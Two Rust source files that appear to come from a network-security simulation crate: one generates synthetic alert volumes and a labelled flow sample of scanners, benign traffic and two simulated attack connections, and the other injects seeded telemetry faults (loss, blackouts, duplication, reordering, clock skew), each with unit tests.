/// Stream `days` days of background alerts; returns `(total, per-day)`.
pub fn stream_days(
    model: &VolumeModel,
    rng: &mut SimRng,
    start: SimTime,
    days: u64,
    sink: &mut impl FnMut(Alert),
) -> (u64, Vec<u64>) {
    let mut per_day = Vec::with_capacity(days as usize);
    let mut total = 0;
    for d in 0..days {
        let day_start = start + SimDuration::from_days(d);
        let n = stream_day(model, rng, day_start, sink);
        per_day.push(n);
        total += n;
    }
    (total, per_day)
}

/// Fig. 1 workload configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Fig1Config {
    /// Sampled flows from the dominant mass scanner (paper: 10,000).
    pub scanner_flows: usize,
    /// Flows from the secondary scanner (part C).
    pub secondary_flows: usize,
    /// Legitimate connection endpoints pool (part D).
    pub legit_nodes: usize,
    /// Legitimate flows.
    pub legit_flows: usize,
}

impl Default for Fig1Config {
    fn default() -> Self {
        // legit_nodes is the *pool*; with 2×legit_flows endpoint draws the
        // number of distinct endpoints used follows the coupon-collector
        // expectation n(1-e^{-2f/n}) ≈ 18.6 K, landing total nodes near the
        // paper's 29,075.
        Fig1Config {
            scanner_flows: 10_000,
            secondary_flows: 500,
            legit_nodes: 25_200,
            legit_flows: 16_835,
        }
    }
}

/// The Fig. 1 ground truth: which addresses play which role.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Fig1GroundTruth {
    /// The mass scanner at the center of part A (103.102.x.y).
    pub mass_scanner: Ipv4Addr,
    /// The secondary scanner of part C (77.72.x.y).
    pub secondary_scanner: Ipv4Addr,
    /// The real attacker of part B (132.x.y.z).
    pub attacker: Ipv4Addr,
    /// The two internal targets of the real attack (141.142.a.b).
    pub targets: [Ipv4Addr; 2],
}

/// Generate the Fig. 1 flow sample.
pub fn fig1_flows(cfg: &Fig1Config, rng: &mut SimRng) -> (Vec<Flow>, Fig1GroundTruth) {
    let t0 = SimTime::from_date(2024, 8, 1);
    let production = simnet::addr::ncsa_production();
    let secondary_net = simnet::addr::ncsa_secondary();
    let gt = Fig1GroundTruth {
        mass_scanner: "103.102.8.9".parse().expect("static"),
        secondary_scanner: "77.72.3.4".parse().expect("static"),
        attacker: "132.45.67.89".parse().expect("static"),
        targets: [production.nth(4_321), production.nth(9_876)],
    };
    let mut flows =
        Vec::with_capacity(cfg.scanner_flows + cfg.secondary_flows + cfg.legit_flows + 2);
    let mut id = 0u64;
    let mut next_id = || {
        id += 1;
        FlowId(id)
    };

    // Part A: mass scanner sweeping distinct /16 targets.
    let mut target_perm: Vec<u64> = (0..65_536).collect();
    rng.shuffle(&mut target_perm);
    for i in 0..cfg.scanner_flows {
        let dst = production.nth(target_perm[i % target_perm.len()]);
        let t = t0 + SimDuration::from_millis(i as u64 * 5);
        flows.push(Flow::probe(next_id(), t, gt.mass_scanner, dst, 5432));
    }
    // Part C: secondary scanner, smaller target list.
    for i in 0..cfg.secondary_flows {
        let dst = production.nth(target_perm[(50_000 + i) % target_perm.len()]);
        let t = t0 + SimDuration::from_millis(200 + i as u64 * 11);
        flows.push(Flow::probe(next_id(), t, gt.secondary_scanner, dst, 22));
    }
    // Part D: legitimate connections between a diffuse endpoint pool.
    // Half the pool is external, half internal (both /16s).
    for i in 0..cfg.legit_flows {
        let src_i = rng.index(cfg.legit_nodes);
        let dst_i = rng.index(cfg.legit_nodes);
        let addr_of = |j: usize| -> Ipv4Addr {
            if j.is_multiple_of(2) {
                // External endpoint: hash to a public-looking address.
                let x = (j as u32).wrapping_mul(2_654_435_761);
                Ipv4Addr::from(0x0200_0000u32 | (x % 0xC000_0000))
            } else if j % 4 == 1 {
                secondary_net.nth((j as u64 * 37) % 65_536)
            } else {
                production.nth((j as u64 * 53) % 65_536)
            }
        };
        let (src, dst) = (addr_of(src_i), addr_of(dst_i));
        if src == dst {
            continue;
        }
        let t = t0 + SimDuration::from_millis(i as u64 * 7);
        flows.push(Flow::established(
            next_id(),
            t,
            SimDuration::from_secs(rng.range_u64(1, 600)),
            src,
            (40_000 + (i % 20_000)) as u16,
            dst,
            [22, 80, 443, 2_049][rng.index(4)],
            rng.range_u64(200, 1_000_000),
            rng.range_u64(200, 1_000_000),
        ));
    }
    // Part B: the real attack — exactly two connections from one external
    // attacker to two internal targets.
    for (k, &target) in gt.targets.iter().enumerate() {
        let t = t0 + SimDuration::from_mins(20 + k as u64);
        flows.push(Flow::established(
            next_id(),
            t,
            SimDuration::from_secs(90),
            gt.attacker,
            50_000 + k as u16,
            target,
            22,
            9_000,
            4_000,
        ));
    }
    (flows, gt)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn daily_volume_calibration() {
        let model = VolumeModel::default();
        let mut rng = SimRng::seed(11);
        let n = 500;
        let samples: Vec<f64> = (0..n)
            .map(|_| sample_daily_volume(&model, &mut rng) as f64)
            .collect();
        let mean = samples.iter().sum::<f64>() / n as f64;
        let std = (samples.iter().map(|x| (x - mean).powi(2)).sum::<f64>() / n as f64).sqrt();
        assert!((mean - 94_238.0).abs() < 4_000.0, "mean {mean}");
        assert!((std - 23_547.0).abs() < 4_000.0, "std {std}");
    }

    #[test]
    fn stream_day_respects_scan_fraction() {
        let model = VolumeModel::default();
        let mut rng = SimRng::seed(12);
        let mut scans = 0u64;
        let mut total = 0u64;
        let n = stream_day(
            &model,
            &mut rng,
            SimTime::from_date(2024, 10, 1),
            &mut |a| {
                total += 1;
                if matches!(a.kind, AlertKind::PortScan | AlertKind::AddressSweep) {
                    scans += 1;
                }
            },
        );
        assert_eq!(n, total);
        let frac = scans as f64 / total as f64;
        assert!(
            (frac - 80_000.0 / 94_238.0).abs() < 0.03,
            "scan fraction {frac}"
        );
    }

    #[test]
    fn stream_day_is_time_ordered_within_day() {
        let model = VolumeModel::default();
        let mut rng = SimRng::seed(13);
        let day = SimTime::from_date(2024, 10, 2);
        let mut last = day;
        stream_day(&model, &mut rng, day, &mut |a| {
            assert!(a.ts >= last);
            assert_eq!(
                a.ts.day_index(),
                day.day_index(),
                "alert stays within its day"
            );
            last = a.ts;
        });
    }

    #[test]
    fn fig1_flow_composition() {
        let cfg = Fig1Config::default();
        let mut rng = SimRng::seed(14);
        let (flows, gt) = fig1_flows(&cfg, &mut rng);
        // The mass scanner dominates.
        let from_scanner = flows.iter().filter(|f| f.src == gt.mass_scanner).count();
        assert_eq!(from_scanner, 10_000);
        // Exactly two real-attack edges.
        let attack: Vec<_> = flows.iter().filter(|f| f.src == gt.attacker).collect();
        assert_eq!(attack.len(), 2);
        assert!(attack.iter().all(|f| f.state.established()));
        assert!(attack
            .iter()
            .all(|f| simnet::addr::ncsa_production().contains(f.dst)));
        // Scanner probes are probe-like (recorded by the black hole).
        assert!(flows
            .iter()
            .filter(|f| f.src == gt.mass_scanner)
            .all(|f| f.state.probe_like()));
    }

    #[test]
    fn multi_day_stream_counts() {
        let model = VolumeModel {
            daily_mean: 1_000.0,
            daily_std: 100.0,
            ..Default::default()
        };
        let mut rng = SimRng::seed(15);
        let mut count = 0u64;
        let (total, per_day) = stream_days(
            &model,
            &mut rng,
            SimTime::from_date(2024, 10, 1),
            5,
            &mut |_| count += 1,
        );
        assert_eq!(per_day.len(), 5);
        assert_eq!(total, count);
        assert_eq!(total, per_day.iter().sum::<u64>());
    }
}
