//! Seeded, deterministic telemetry fault injection.
//!
//! Real deployments of the Fig. 4 pipeline do not see the clean record
//! streams the generators in this crate produce: sensors black out,
//! forwarders drop and duplicate records, multi-hop log shipping reorders
//! them, and host clocks drift. ICSSIM-style testbeds make such fault
//! injection a first-class capability; this module provides it for the
//! record level of the pipeline, with every fault model driven by one
//! [`SimRng`] stream so a `(plan, input)` pair reproduces the identical
//! faulted stream byte for byte.
//!
//! Fault models, composable in one [`FaultPlan`]:
//!
//! - **i.i.d. record loss** — each record is independently dropped with
//!   `loss_prob`.
//! - **Blackout windows** — explicit `[start, end)` intervals during which
//!   a scope of telemetry (everything, one monitor stream, or one host)
//!   produces nothing. Windows are declared up front, so they can also be
//!   handed to the detector as *known* gaps (degraded-mode temporal
//!   handling) and to the evaluator for per-fault-profile scoring.
//! - **Record duplication** — each surviving record is re-emitted with
//!   `dup_prob` (at-least-once log shipping).
//! - **Bounded reordering** — each record may be delayed by up to
//!   `reorder_window` stream positions (a release-slot min-heap, so the
//!   displacement bound is hard in both directions).
//! - **Per-host clock skew + jitter** — every host clock gets a constant
//!   offset in `[-max_skew, +max_skew]` (hashed from the plan seed, so it
//!   is stable per host) and every record an independent jitter in
//!   `[-jitter, +jitter]`. Negative adjustments saturate at
//!   [`SimTime::EPOCH`] rather than wrapping.
//!
//! The injector is allocation-free in steady state: the reorder heap is
//! pre-sized to the window and records move through by value.

use std::collections::BinaryHeap;

use serde::{Deserialize, Serialize};
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};
use simnet::topology::HostId;
use telemetry::record::{LogRecord, RecordKind};

/// Which telemetry a blackout window silences.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum BlackoutScope {
    /// Every record (site-wide collector outage).
    All,
    /// One monitor stream (e.g. the notice pipeline) goes dark.
    Monitor(RecordKind),
    /// One host's agents go dark (host-based records only).
    Host(HostId),
}

/// One sensor blackout: records in `[start, end)` matching `scope` are
/// lost.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct BlackoutWindow {
    pub start: SimTime,
    pub end: SimTime,
    pub scope: BlackoutScope,
}

impl BlackoutWindow {
    /// Whether `record` falls inside this window (by its original,
    /// pre-skew timestamp) and matches the scope.
    pub fn silences(&self, record: &LogRecord) -> bool {
        let ts = record.ts();
        if ts < self.start || ts >= self.end {
            return false;
        }
        match self.scope {
            BlackoutScope::All => true,
            BlackoutScope::Monitor(kind) => record.kind() == kind,
            BlackoutScope::Host(host) => record.host() == Some(host),
        }
    }
}

/// Per-host clock skew and per-record jitter.
#[derive(Debug, Clone, Copy, PartialEq, Default, Serialize, Deserialize)]
pub struct ClockSkewConfig {
    /// Magnitude bound of the constant per-host clock offset; each host
    /// clock is assigned a stable offset in `[-max_skew, +max_skew]`.
    pub max_skew: SimDuration,
    /// Magnitude bound of the independent per-record jitter.
    pub jitter: SimDuration,
}

impl ClockSkewConfig {
    pub fn is_none(&self) -> bool {
        self.max_skew == SimDuration::ZERO && self.jitter == SimDuration::ZERO
    }
}

/// A composable, seeded fault configuration. [`FaultPlan::clean`] is the
/// identity plan; the `with_*` builders switch individual models on.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FaultPlan {
    /// Label carried through [`FaultStats`] into reports and artifacts.
    pub profile: String,
    /// Seed of the injector's own RNG stream — independent of the
    /// campaign seed, so the same workload can be replayed under many
    /// fault draws (or the same draws over many workloads).
    pub seed: u64,
    /// Independent per-record loss probability.
    pub loss_prob: f64,
    /// Per-record duplication probability (applied after loss).
    pub dup_prob: f64,
    /// Maximum stream-position displacement of the bounded reorderer;
    /// `0` disables reordering.
    pub reorder_window: usize,
    /// Declared sensor blackout windows.
    pub blackouts: Vec<BlackoutWindow>,
    /// Per-host clock skew / per-record jitter.
    pub clock: ClockSkewConfig,
}

impl FaultPlan {
    /// The identity plan: no faults.
    pub fn clean(seed: u64) -> FaultPlan {
        FaultPlan {
            profile: "clean".to_string(),
            seed,
            loss_prob: 0.0,
            dup_prob: 0.0,
            reorder_window: 0,
            blackouts: Vec::new(),
            clock: ClockSkewConfig::default(),
        }
    }

    pub fn named(mut self, profile: impl Into<String>) -> FaultPlan {
        self.profile = profile.into();
        self
    }

    pub fn with_loss(mut self, loss_prob: f64) -> FaultPlan {
        self.loss_prob = loss_prob.clamp(0.0, 1.0);
        self
    }

    pub fn with_duplication(mut self, dup_prob: f64) -> FaultPlan {
        self.dup_prob = dup_prob.clamp(0.0, 1.0);
        self
    }

    pub fn with_reorder(mut self, window: usize) -> FaultPlan {
        self.reorder_window = window;
        self
    }

    pub fn with_blackout(mut self, window: BlackoutWindow) -> FaultPlan {
        self.blackouts.push(window);
        self
    }

    pub fn with_clock(mut self, clock: ClockSkewConfig) -> FaultPlan {
        self.clock = clock;
        self
    }

    /// The time spans of every declared blackout, scope-erased — what an
    /// operator would hand the detector as "known telemetry gaps".
    pub fn blackout_spans(&self) -> Vec<(SimTime, SimTime)> {
        self.blackouts.iter().map(|w| (w.start, w.end)).collect()
    }

    /// Whether this plan is the identity.
    pub fn is_clean(&self) -> bool {
        self.loss_prob == 0.0
            && self.dup_prob == 0.0
            && self.reorder_window == 0
            && self.blackouts.is_empty()
            && self.clock.is_none()
    }
}

/// Counters of everything one injector did, labeled with the plan's
/// profile — the per-fault-profile annotation the evaluator reports.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct FaultStats {
    pub profile: String,
    /// Records offered to the injector.
    pub records_in: u64,
    /// Records emitted (surviving, including duplicates).
    pub records_out: u64,
    /// Records dropped by i.i.d. loss.
    pub lost_iid: u64,
    /// Records silenced by a blackout window.
    pub lost_blackout: u64,
    /// Extra copies emitted by duplication.
    pub duplicated: u64,
    /// Records assigned a delayed release slot by the reorderer.
    pub reordered: u64,
    /// Records whose timestamp was changed by skew/jitter.
    pub skewed: u64,
}

/// Reorder-heap entry, ordered by `(release, seq)` ascending (min-heap via
/// reversed `Ord`). `release` is the stream position at which the record
/// may leave the reorderer, so displacement is bounded by the window in
/// both directions.
struct HeapEntry {
    release: u64,
    seq: u64,
    record: LogRecord,
}

impl PartialEq for HeapEntry {
    fn eq(&self, other: &Self) -> bool {
        self.release == other.release && self.seq == other.seq
    }
}
impl Eq for HeapEntry {}
impl PartialOrd for HeapEntry {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl Ord for HeapEntry {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        // Reversed: BinaryHeap is a max-heap, we want the smallest
        // (release, seq) on top.
        (other.release, other.seq).cmp(&(self.release, self.seq))
    }
}
impl std::fmt::Debug for HeapEntry {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("HeapEntry")
            .field("release", &self.release)
            .field("seq", &self.seq)
            .finish()
    }
}

/// SplitMix64 — the stable per-host clock-offset hash.
fn splitmix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// The streaming fault injector: push records in arrival order, collect
/// the faulted stream, [`FaultInjector::finish`] at end of stream to drain
/// the reorder window. Deterministic in `(plan, input)`; batch boundaries
/// are unobservable, so every pipeline executor sees the identical faulted
/// stream.
#[derive(Debug)]
pub struct FaultInjector {
    plan: FaultPlan,
    rng: SimRng,
    /// Stream position of the next record entering the reorderer.
    seq: u64,
    heap: BinaryHeap<HeapEntry>,
    stats: FaultStats,
}

impl FaultInjector {
    pub fn new(plan: FaultPlan) -> FaultInjector {
        let rng = SimRng::seed(plan.seed);
        let stats = FaultStats {
            profile: plan.profile.clone(),
            ..FaultStats::default()
        };
        FaultInjector {
            heap: BinaryHeap::with_capacity(plan.reorder_window + 2),
            rng,
            seq: 0,
            stats,
            plan,
        }
    }

    pub fn plan(&self) -> &FaultPlan {
        &self.plan
    }

    /// Counters so far (final after [`FaultInjector::finish`]).
    pub fn stats(&self) -> FaultStats {
        self.stats.clone()
    }

    /// The stable clock offset of the host that produced `record`
    /// (network-sensor records without a host share one Zeek-cluster
    /// clock): `(offset, is_negative)`.
    fn host_skew(&self, record: &LogRecord) -> (SimDuration, bool) {
        let max = self.plan.clock.max_skew;
        if max == SimDuration::ZERO {
            return (SimDuration::ZERO, false);
        }
        let clock_id = record.host().map(|h| h.0 as u64 + 1).unwrap_or(0);
        let h = splitmix64(self.plan.seed ^ clock_id.wrapping_mul(0xD6E8_FEB8_6659_FD93));
        // 53 uniform bits → [0, 1), stretched to [-1, 1).
        let signed = ((h >> 11) as f64 / (1u64 << 53) as f64) * 2.0 - 1.0;
        (max.mul_f64(signed.abs()), signed < 0.0)
    }

    /// Offer one record; surviving (possibly skewed, duplicated,
    /// reordered) records are appended to `out`.
    pub fn push(&mut self, mut record: LogRecord, out: &mut Vec<LogRecord>) {
        self.stats.records_in += 1;
        // Blackouts judge the record by its true emission time, before
        // any clock fault rewrites it.
        if self.plan.blackouts.iter().any(|w| w.silences(&record)) {
            self.stats.lost_blackout += 1;
            return;
        }
        // One RNG draw per surviving model keeps the stream a pure
        // function of the record sequence, independent of batching.
        if self.rng.chance(self.plan.loss_prob) {
            self.stats.lost_iid += 1;
            return;
        }
        let (skew, skew_neg) = self.host_skew(&record);
        let jitter_signed = if self.plan.clock.jitter == SimDuration::ZERO {
            0.0
        } else {
            self.rng.uniform(-1.0, 1.0)
        };
        if skew != SimDuration::ZERO || jitter_signed != 0.0 {
            let orig = record.ts();
            let mut ts = if skew_neg {
                orig.saturating_sub(skew)
            } else {
                orig.saturating_add(skew)
            };
            let jitter = self.plan.clock.jitter.mul_f64(jitter_signed.abs());
            ts = if jitter_signed < 0.0 {
                ts.saturating_sub(jitter)
            } else {
                ts.saturating_add(jitter)
            };
            if ts != orig {
                self.stats.skewed += 1;
                record.set_ts(ts);
            }
        }
        let duplicate = self.plan.dup_prob > 0.0 && self.rng.chance(self.plan.dup_prob);
        if duplicate {
            self.stats.duplicated += 1;
            let copy = record.clone();
            self.enqueue(copy, out);
        }
        self.enqueue(record, out);
    }

    /// Enter the bounded reorderer at the next stream position and emit
    /// everything whose release slot has arrived.
    fn enqueue(&mut self, record: LogRecord, out: &mut Vec<LogRecord>) {
        let seq = self.seq;
        self.seq += 1;
        let k = self.plan.reorder_window;
        let delay = if k == 0 {
            0
        } else {
            self.rng.index(k + 1) as u64
        };
        if delay > 0 {
            self.stats.reordered += 1;
        }
        self.heap.push(HeapEntry {
            release: seq + delay,
            seq,
            record,
        });
        while self.heap.peek().is_some_and(|e| e.release <= seq) {
            let e = self.heap.pop().expect("peeked");
            self.stats.records_out += 1;
            out.push(e.record);
        }
    }

    /// End of stream: drain the reorder window in release order.
    pub fn finish(&mut self, out: &mut Vec<LogRecord>) {
        while let Some(e) = self.heap.pop() {
            self.stats.records_out += 1;
            out.push(e.record);
        }
    }
}

/// One-shot convenience: run a whole record slice through a fresh
/// injector.
pub fn apply_fault_plan(plan: &FaultPlan, records: &[LogRecord]) -> (Vec<LogRecord>, FaultStats) {
    let mut inj = FaultInjector::new(plan.clone());
    let mut out = Vec::with_capacity(records.len());
    for r in records {
        inj.push(r.clone(), &mut out);
    }
    inj.finish(&mut out);
    (out, inj.stats())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stream::{record_stream, RecordStreamConfig};

    fn workload(n: usize) -> Vec<LogRecord> {
        record_stream(
            &RecordStreamConfig {
                scan_records: n / 2,
                benign_flows: n / 4,
                exec_records: n / 4,
                users: 10,
                ..RecordStreamConfig::default()
            },
            &mut SimRng::seed(42),
        )
    }

    #[test]
    fn clean_plan_is_identity() {
        let records = workload(400);
        let (out, stats) = apply_fault_plan(&FaultPlan::clean(1), &records);
        assert_eq!(out, records);
        assert_eq!(stats.records_in, records.len() as u64);
        assert_eq!(stats.records_out, records.len() as u64);
        assert_eq!(stats.lost_iid + stats.lost_blackout + stats.duplicated, 0);
        assert!(FaultPlan::clean(1).is_clean());
    }

    #[test]
    fn same_plan_same_faulted_stream() {
        let records = workload(600);
        let plan = FaultPlan::clean(7)
            .named("mixed")
            .with_loss(0.2)
            .with_duplication(0.1)
            .with_reorder(16)
            .with_clock(ClockSkewConfig {
                max_skew: SimDuration::from_secs(30),
                jitter: SimDuration::from_secs(5),
            });
        let (a, sa) = apply_fault_plan(&plan, &records);
        let (b, sb) = apply_fault_plan(&plan, &records);
        assert_eq!(a, b, "byte-identical replay");
        assert_eq!(sa, sb);
        let other = FaultPlan { seed: 8, ..plan };
        let (c, _) = apply_fault_plan(&other, &records);
        assert_ne!(a, c, "different seed, different draws");
    }

    #[test]
    fn loss_probability_extremes() {
        let records = workload(300);
        let (all, s) = apply_fault_plan(&FaultPlan::clean(3).with_loss(1.0), &records);
        assert!(all.is_empty());
        assert_eq!(s.lost_iid, records.len() as u64);
        let (none, s) = apply_fault_plan(&FaultPlan::clean(3).with_loss(0.0), &records);
        assert_eq!(none.len(), records.len());
        assert_eq!(s.lost_iid, 0);
    }

    #[test]
    fn blackout_scopes_silence_matching_records() {
        let records = workload(500);
        let t0 = records.first().unwrap().ts();
        let t_end = records.last().unwrap().ts();
        let all = FaultPlan::clean(5).with_blackout(BlackoutWindow {
            start: t0,
            end: t_end.saturating_add(SimDuration::from_secs(1)),
            scope: BlackoutScope::All,
        });
        let (out, s) = apply_fault_plan(&all, &records);
        assert!(out.is_empty(), "site-wide blackout loses everything");
        assert_eq!(s.lost_blackout, records.len() as u64);

        // Monitor scope: only that stream goes dark.
        let kind = RecordKind::Conn;
        let conn_count = records.iter().filter(|r| r.kind() == kind).count();
        assert!(conn_count > 0, "workload has conn records");
        let monitor = FaultPlan::clean(5).with_blackout(BlackoutWindow {
            start: t0,
            end: t_end.saturating_add(SimDuration::from_secs(1)),
            scope: BlackoutScope::Monitor(kind),
        });
        let (out, s) = apply_fault_plan(&monitor, &records);
        assert_eq!(s.lost_blackout, conn_count as u64);
        assert!(out.iter().all(|r| r.kind() != kind));
        assert_eq!(out.len(), records.len() - conn_count);

        // Host scope: only that host's host-based records go dark.
        let host = records.iter().find_map(|r| r.host());
        if let Some(h) = host {
            let host_count = records.iter().filter(|r| r.host() == Some(h)).count();
            let hostp = FaultPlan::clean(5).with_blackout(BlackoutWindow {
                start: t0,
                end: t_end.saturating_add(SimDuration::from_secs(1)),
                scope: BlackoutScope::Host(h),
            });
            let (out, s) = apply_fault_plan(&hostp, &records);
            assert_eq!(s.lost_blackout, host_count as u64);
            assert!(out.iter().all(|r| r.host() != Some(h)));
        }
    }

    #[test]
    fn duplication_doubles_at_probability_one() {
        let records = workload(200);
        let (out, s) = apply_fault_plan(&FaultPlan::clean(9).with_duplication(1.0), &records);
        assert_eq!(out.len(), 2 * records.len());
        assert_eq!(s.duplicated, records.len() as u64);
        assert_eq!(s.records_out, 2 * records.len() as u64);
        // Each duplicate is adjacent to its original when no reordering is
        // configured.
        for pair in out.chunks(2) {
            assert_eq!(pair[0], pair[1]);
        }
    }

    #[test]
    fn reordering_is_bounded_and_preserves_the_multiset() {
        let records = workload(800);
        let k = 12usize;
        let (out, _) = apply_fault_plan(&FaultPlan::clean(11).with_reorder(k), &records);
        assert_eq!(out.len(), records.len());
        // Multiset equality via sorted debug strings (records are not Ord).
        let key = |r: &LogRecord| format!("{r:?}");
        let mut a: Vec<String> = records.iter().map(key).collect();
        let mut b: Vec<String> = out.iter().map(key).collect();
        a.sort();
        b.sort();
        assert_eq!(a, b, "reordering loses nothing and invents nothing");
        // Displacement bound: record at input position i appears in the
        // output within [i - k, i + k].
        let mut pos = std::collections::HashMap::new();
        for (i, r) in out.iter().enumerate() {
            pos.entry(key(r)).or_insert_with(Vec::new).push(i);
        }
        for (i, r) in records.iter().enumerate() {
            let positions = &pos[&key(r)];
            assert!(
                positions.iter().any(|&j| j + k >= i && j <= i + k),
                "record {i} displaced beyond the window: {positions:?}"
            );
        }
    }

    #[test]
    fn negative_skew_saturates_at_the_epoch() {
        // Records right at the epoch with a skew far larger than their
        // timestamps: negative host offsets and jitter must pin at zero,
        // never wrap.
        let records: Vec<LogRecord> = workload(300)
            .into_iter()
            .enumerate()
            .map(|(i, mut r)| {
                r.set_ts(SimTime::from_secs(i as u64 % 5));
                r
            })
            .collect();
        let plan = FaultPlan::clean(13).with_clock(ClockSkewConfig {
            max_skew: SimDuration::from_hours(2),
            jitter: SimDuration::from_mins(10),
        });
        let (out, stats) = apply_fault_plan(&plan, &records);
        assert_eq!(out.len(), records.len());
        assert!(stats.skewed > 0, "a two-hour skew bound moves clocks");
        let bound = SimTime::EPOCH
            .saturating_add(SimDuration::from_secs(5))
            .saturating_add(SimDuration::from_hours(2))
            .saturating_add(SimDuration::from_mins(10));
        for r in &out {
            assert!(r.ts() >= SimTime::EPOCH, "no wraparound below the epoch");
            assert!(r.ts() <= bound, "skew bounded by the configured maxima");
        }
        // Determinism holds at the epoch boundary too.
        let (again, _) = apply_fault_plan(&plan, &records);
        assert_eq!(out, again);
    }

    #[test]
    fn host_skew_is_stable_per_host() {
        // All records of one host move by the same constant when jitter is
        // off.
        let records = workload(600);
        let plan = FaultPlan::clean(17).with_clock(ClockSkewConfig {
            max_skew: SimDuration::from_mins(30),
            jitter: SimDuration::ZERO,
        });
        let (out, _) = apply_fault_plan(&plan, &records);
        let mut per_host: std::collections::HashMap<Option<simnet::topology::HostId>, i128> =
            std::collections::HashMap::new();
        for (orig, faulted) in records.iter().zip(&out) {
            let delta = faulted.ts().as_nanos() as i128 - orig.ts().as_nanos() as i128;
            match per_host.entry(orig.host()) {
                std::collections::hash_map::Entry::Vacant(v) => {
                    v.insert(delta);
                }
                std::collections::hash_map::Entry::Occupied(o) => {
                    assert_eq!(*o.get(), delta, "one constant offset per host clock");
                }
            }
        }
    }
}
